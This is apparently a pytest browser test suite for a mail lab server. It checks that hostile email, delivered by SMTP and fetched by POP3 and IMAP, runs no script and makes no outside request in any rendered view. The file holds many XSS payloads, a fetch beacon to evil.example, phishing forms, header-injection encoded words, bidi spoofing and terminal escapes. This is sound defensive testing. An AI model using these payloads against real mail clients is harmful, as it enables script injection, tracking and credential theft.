"""Mail that attacks whoever looks at it, in every view, in a real browser.

Each message comes by real SMTP into a real lab and is fetched by POP3 and IMAP; then one page shows
all there is to see of it. Add a view to `VIEWS` and it is tested with every message.
"""

from __future__ import annotations

import imaplib
import poplib
import smtplib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from typing import Any

import pytest

from labserver import (
    Lab,
    Mailbox,
    Message,
    Session,
    View,
    compare,
    read_log,
    replay,
    sequence,
    show,
    states,
    timeline,
    wire,
)
from labserver.network.inline import InlineNetwork
from tests.inert import ATTRIBUTES, EVER_MADE
from tests.steps import steps

pytestmark = pytest.mark.browser

PAGE = "http://page.example/"
WIDTH, HEIGHT = 1280, 900
TALLEST = 50_000
"""Pixels of one view with all unfolded: of each content 200 lines at most, long ones wrapped."""
STEPS = 5_000_000
"""To draw one view of one message: some for each of its octets, of which there are up to 1 MB."""
NODES, CHARACTERS = 20_000, 1_000_000
"""What a browser has to lay out for all views of a message together."""
UNSEEN = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\0\x1b")
"""What changes how other text looks."""
SCRIPT = "window.ran=1;fetch('http://evil.example/ran')"


@dataclass(frozen=True)
class Scene:
    """A hostile message in a lab, and the sessions that carried it."""

    octets: bytes
    message: Message
    mailbox: Mailbox
    smtp: Session
    pop3: Session
    imap: Session


def _log(scene: Scene) -> View:
    """The same as somebody else's log might hold it."""
    said = scene.octets[:50_000].decode("utf-8", "backslashreplace").splitlines()[:100]
    head = ["S: 220 <b>mx</b> ready", "C: EHLO x", "S: 250 x", "C: MAIL FROM:<a@b>", "S: 250 OK"]
    return show(read_log("\n".join([*head, *(f"S: 550 {row}" for row in said)])))


VIEWS: dict[str, Callable[[Scene], View]] = {
    "message": lambda scene: show(scene.message),
    "mailbox": lambda scene: show(scene.mailbox),
    "smtp": lambda scene: show(scene.smtp),
    "pop3": lambda scene: show(scene.pop3),
    "imap": lambda scene: show(scene.imap),
    "replay": lambda scene: replay(scene.imap),
    "sequence smtp": lambda scene: sequence(scene.smtp),
    "sequence pop3": lambda scene: sequence(scene.pop3),
    "sequence imap": lambda scene: sequence(scene.imap),
    "wire smtp": lambda scene: wire(scene.smtp),
    "wire imap": lambda scene: wire(scene.imap),
    "states": lambda scene: states(scene.smtp),
    "timeline": lambda scene: timeline(scene.smtp, scene.pop3, scene.imap),
    "compare": lambda scene: compare(scene.smtp, scene.imap),
    "log": _log,
}


# -- the mail


def mail(
    body: str | bytes, subject: str = "hostile", kind: str = "text/html", **more: str
) -> bytes:
    """A message; what HTML would make of the body it must never become."""
    fields = {"From": "Eve <eve@evil.example>", "Subject": subject, "Content-Type": kind, **more}
    head = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in fields.items())
    return f"{head}\r\n{body}\r\n".encode()


def folded(text: str) -> str:
    """One header field over many lines, each as long as SMTP takes."""
    return "\r\n ".join(text[at : at + 900] for at in range(0, len(text), 900))


EVERYWHERE = [
    f"<script>{SCRIPT}</script>",
    f"</pre></section></style></title></textarea><script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f'"><svg/onload="{SCRIPT}">',
    f"' onmouseover=\"{SCRIPT}\" x='",
    f"--><!--><script>{SCRIPT}</script>",
    f"<![CDATA[><script>{SCRIPT}</script>]]>",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"javascript:{SCRIPT}",
    f"`${{{SCRIPT}}}`{{{{constructor.constructor('{SCRIPT}')()}}}}",
]
IN_A_BODY = {
    "event handlers": "".join(
        f'<{tag} on{event}="{SCRIPT}" autofocus tabindex=1 style="display:block">x</{tag}>\r\n'
        for tag in ("div", "input", "video", "details", "marquee", "body", "select")
        for event in ("load", "error", "focus", "mouseover", "click", "toggle", "start")
    ),
    "javascript and data URLs": (
        f'<a href="javascript:{SCRIPT}">a</a><a href="java\tscript:{SCRIPT}">b</a>'
        f'<a href="data:text/html,<script>{SCRIPT}</script>">c</a>'
        f'<iframe src="data:text/html,<script>parent.{SCRIPT}</script>"></iframe>'
    ),
    "remote images": (
        '<img src="http://evil.example/1.png"><img srcset="http://evil.example/2.png 2x">'
        '<picture><source srcset="http://evil.example/3.png"></picture><input type=image '
        'src="http://evil.example/4.png"><video poster="http://evil.example/5.png"></video>'
        '<body background="http://evil.example/6.png"><table background="//evil.example/7.png">'
    ),
    "styles": (
        "<style>@import url(http://evil.example/1.css);*{background:url(http://evil.example/2)}"
        f'</style><link rel=stylesheet href=http://evil.example/3.css><p style="background:url('
        f"'http://evil.example/4');width:expression({SCRIPT});position:fixed;inset:0\">"
        "<style>@font-face{font-family:x;src:url(http://evil.example/5)}*{font-family:x}</style>"
    ),
    "forms": (
        '<form action="http://evil.example/form"><input name=password type=password autofocus>'
        "<button>Log in</button></form><form id=f></form><button form=f formaction="
        "http://evil.example/>x</button>"
    ),
    "frames and objects": (
        '<iframe src="http://evil.example/1"></iframe><iframe srcdoc="<script>parent.'
        f'{SCRIPT}</script>"></iframe><object data="http://evil.example/2"></object>'
        '<embed src="http://evil.example/3"><frameset><frame src="http://evil.example/4">'
        '<applet code="x" codebase="http://evil.example/5"></applet><portal src=//evil.example/6>'
    ),
    "svg": (
        f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script><image href="http://evil.example/1"/>'
        f'<use href="http://evil.example/2#x"/><a xlink:href="javascript:{SCRIPT}"><text>x</text>'
        f'</a><animate onbegin="{SCRIPT}" attributeName=x dur=1s /><foreignObject><iframe '
        'src="http://evil.example/3"></iframe></foreignObject><style>@import "//evil.example/4"'
    ),
    "meta and base": (
        '<meta http-equiv="refresh" content="0;url=http://evil.example/1"><base '
        'href="http://evil.example/"><link rel=prefetch href=/2><link rel="dns-prefetch preconnect"'
        ' href="//evil.example"><meta http-equiv="Content-Security-Policy" content="default-src *">'
    ),
    "mathml": (
        f'<math><maction actiontype="statusline" xlink:href="javascript:{SCRIPT}">x</maction>'
        f'<mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='
        f'{SCRIPT}&gt;"></mglyph></table></mtext></math><annotation-xml encoding=text/html><img '
        f"src=x onerror={SCRIPT}></annotation-xml>"
    ),
    "templates and noscript": (
        f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>"></noscript><template>'
        f"<script>{SCRIPT}</script></template><xmp><script>{SCRIPT}</script></xmp><plaintext>"
    ),
    "bidi overrides": "\u202egnp.exe\u202c \u2066\u2067x\u2069 \u200f\u061c \u202dabc\u202e",
    "terminal escapes": "\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b31m\x08\x08\x7f\x00",
    "no text": bytes(range(256)).replace(b"\r", b"").replace(b"\n", b"").decode("latin-1"),
    "one word": "x" * 998,
    "many wide words": ("\u3042" * 300 + "\r\n") * 300,
    "combining": ("a" + "\u0301" * 400 + "\r\n") * 50,
    "many lines": "<b>\r\n" * 100_000,
}

HOSTILE: dict[str, bytes] = {
    # in the subject, in every other field, in a part's fields and in its body
    **{
        f"everywhere {number}": mail(
            f'--b\r\nContent-Type: image/svg+xml; name="{text}"\r\n'
            f'Content-Disposition: attachment; filename="{text}"\r\n\r\n{text}\r\n'
            f"--b\r\nContent-Type: text/html\r\n\r\n{text}\r\n--b--",
            text,
            kind="multipart/mixed; boundary=b",
            From=f'"{text}" <eve@evil.example>',
            To=f"{text} <ben@lab.example>",
            Message_ID=f"<{text}>",
            Date=text,
            X_Mailer=text,
        )
        for number, text in enumerate(EVERYWHERE)
    },
    # and in a body that is a whole message
    **{f"in a body {number}": mail(text) for number, text in enumerate(EVERYWHERE[:2])},
    **{name: mail(body) for name, body in IN_A_BODY.items()},
    "an encoded subject": mail(
        "x", "=?utf-8?q?=3Cscript=3Ewindow=2Eran=3D1=3C/script=3E?= =?utf-8?b?PGltZyBzcmM9eD4=?="
    ),
    "fields in encoded words": mail(
        "x", "=?utf-8?q?a=0D=0ABcc:_eve=40evil.example=0D=0A=0D=0A<script>window.ran=3D1</script>?="
    ),
    "bidi overrides in a subject": mail("x", "\u202egnp.exe =?utf-8?q?=E2=80=AEgnp.exe?="),
    "a subject of 1 MB": mail("x", folded("<b>subject " * 90_000)),
    "a subject of 1 MB in encoded words": mail("x", folded("=?utf-8?q?=3Cb=3E?= " * 60_000)),
    "10,000 fields": b"".join(b"X-%d: <b>\r\n" % n for n in range(10_000)) + mail("x"),
    "10,000 levels": b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n)
        for n in range(10_000)
    ),
    "10,000 messages in messages": b"Content-Type: message/rfc822\r\n\r\n" * 10_000,
    "no header": b"\r\n<script>window.ran=1</script>\r\n",
    "nothing": b"",
    "not a field": b"<script>window.ran=1</script>\r\n: <b>\r\n\tx\r\n\r\n",
}


def arrived(octets: bytes) -> Scene:
    """The message sent and fetched by real clients."""
    network = InlineNetwork()
    with Lab(network=network) as lab:
        name = "<script>window.ran=1</script>"
        with smtplib.SMTP(*lab.smtp, local_hostname=name) as client:
            client.ehlo()
            client.docmd("MAIL", "FROM:<eve@evil.example>")
            client.docmd("RCPT", 'TO:<"<img/src=x>"@lab.example>')
            client.docmd("RCPT", "TO:<ben@lab.example>")
            client.docmd("VRFY", "<svg/onload=window.ran=1>")
            code, said = client.data(octets)
            assert code == 250, said
        pop3 = poplib.POP3(*lab.pop3)
        pop3.user("ben@lab.example")
        pop3.pass_("ben-lab-password")
        pop3.retr(1)
        pop3.quit()
        with imaplib.IMAP4(*lab.imap) as imap:
            imap.login("ben@lab.example", "ben-lab-password")
            imap.create('"<img/src=x/onerror=window.ran=1>"')
            imap.list()
            imap.select()
            imap.fetch("1", "(ENVELOPE BODYSTRUCTURE BODY.PEEK[])")
        inbox = lab.inbox("ben@lab.example")
        by_smtp, by_pop3, by_imap = lab.sessions
        scene = Scene(octets, inbox[0], inbox, by_smtp, by_pop3, by_imap)
    network.close()
    return scene


# -- in the browser


LOOK = """
() => {
    const views = () => [...document.querySelectorAll("body > div")].map(
        (one) => [one.title, one.scrollHeight, one.scrollWidth]
    );
    const folded = views();
    for (const details of document.querySelectorAll("details")) details.open = true;
    for (const element of document.querySelectorAll("*")) {
        for (const name of ["mouseover", "mouseenter", "focus", "focusin", "error", "load"])
            element.dispatchEvent(new Event(name));
        if (element.focus) element.focus();
    }
    const every = [...document.body.querySelectorAll("*")];
    return {
        ran: frames.length || window.ran || 0,
        elements: [...new Set(every.map((one) => one.localName))],
        spaces: [...new Set(every.map((one) => one.namespaceURI))],
        attributes: [...new Set(every.flatMap((one) => one.getAttributeNames()))],
        links: [...document.links].map((one) => one.href),
        sheets: document.styleSheets.length,
        scripts: document.scripts.length,
        width: document.documentElement.scrollWidth,
        folded,
        unfolded: views(),
        text: document.body.textContent,
        location: location.href,
    };
}
"""


SETTLED = """() => new Promise((done) =>
    requestAnimationFrame(() => requestAnimationFrame(() => requestIdleCallback(done))))"""
"""What an image, an animation or a frame sets off has been asked for by then."""


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_mail_does_nothing_in_any_view(browser: Any, name: str) -> None:
    scene = arrived(HOSTILE[name])
    parts = []
    for view, draw in VIEWS.items():
        html = draw(scene).html
        made = steps(partial(draw, scene))
        assert made < STEPS, f"{view} took {made:,} steps to draw"
        parts.append(f'<div title="{view}">{html}</div>')
    head = '<!doctype html><html lang="en"><meta charset="utf-8"><title>Mail</title><body>'
    requests: list[str] = []

    def answer(route: Any) -> None:
        requests.append(route.request.url)
        if route.request.url == PAGE and len(requests) == 1:
            route.fulfill(body=head + "".join(parts), content_type="text/html; charset=utf-8")
        else:
            route.abort()

    context = browser.new_context(viewport={"width": WIDTH, "height": HEIGHT})
    page = context.new_page()
    opened: list[str] = []
    page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
    context.on("page", lambda popup: opened.append(popup.url))
    context.route("**/*", answer)
    page.goto(PAGE)
    metrics = context.new_cdp_session(page)
    metrics.send("Performance.enable")
    seen = page.evaluate(LOOK)
    held = {one["name"]: one["value"] for one in metrics.send("Performance.getMetrics")["metrics"]}
    page.evaluate(SETTLED)
    context.close()

    assert not seen["ran"]
    assert not opened
    assert requests == [PAGE]
    assert seen["location"] == PAGE
    assert set(seen["elements"]) <= EVER_MADE
    assert set(seen["attributes"]) <= {one if one != "viewbox" else "viewBox" for one in ATTRIBUTES}
    assert all(link.startswith("https://www.rfc-editor.org/rfc/") for link in seen["links"])
    assert seen["scripts"] == 0
    assert seen["sheets"] == "".join(parts).count("<style>") < 2 * len(VIEWS)
    assert not set(seen["text"]) & UNSEEN
    assert seen["width"] <= WIDTH
    for state in ("folded", "unfolded"):
        assert [view for view, _, _ in seen[state]] == list(VIEWS), "a view broke out of its place"
        for view, height, width in seen[state]:
            assert width <= WIDTH, (state, view)
            assert height <= TALLEST, (state, view)
    assert held["Nodes"] <= NODES
    assert len(seen["text"]) <= CHARACTERS
